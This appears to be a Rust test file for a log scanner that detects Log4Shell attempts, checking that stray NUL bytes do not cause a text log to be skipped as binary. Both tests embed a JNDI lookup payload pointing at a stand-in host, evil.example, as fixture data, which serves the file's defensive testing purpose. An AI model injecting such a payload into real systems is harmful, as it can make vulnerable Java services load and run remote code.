//! Limits never hide a trace (issue 11): a few binary bytes in a text log do not make the
//! log "binary"; a log that is mostly binary still is.

use crate::support::{Rng, scan_one, write};

#[test]
fn a_stray_nul_near_the_top_does_not_make_a_text_log_binary() {
    let dir = tempfile::tempdir().unwrap();
    for (pos, count) in [(0usize, 1usize), (10, 1), (100, 3), (4000, 8)] {
        let mut log = Vec::new();
        for i in 0..200 {
            log.extend_from_slice(
                format!("2021-12-11 10:00:{:02} INFO request {i} ok\n", i % 60).as_bytes(),
            );
        }
        for k in 0..count {
            log.insert(pos + k, 0);
        }
        log.extend_from_slice(b"2021-12-11 10:01:00 INFO q=${jndi:ldap://evil.example/a}\n");
        let p = write(dir.path(), &format!("nul{pos}.log"), &log);
        let s = scan_one(&p);
        assert_eq!(s.evidence.len(), 1, "NUL at {pos}: {:?}", s.unreadable);
        assert!(s.unreadable.is_empty(), "{:?}", s.unreadable);
    }
}

#[test]
fn a_mostly_binary_file_is_still_binary() {
    let dir = tempfile::tempdir().unwrap();
    let mut rng = Rng(7);
    let mut bin: Vec<u8> = (0..16384).map(|_| (rng.next() % 256) as u8).collect();
    bin.extend_from_slice(b"${jndi:ldap://evil.example/a}\n");
    let p = write(dir.path(), "blob.log", &bin);
    let s = scan_one(&p);
    assert!(s.evidence.is_empty());
    assert_eq!(s.unreadable.len(), 1, "{:?}", s.unreadable);
}
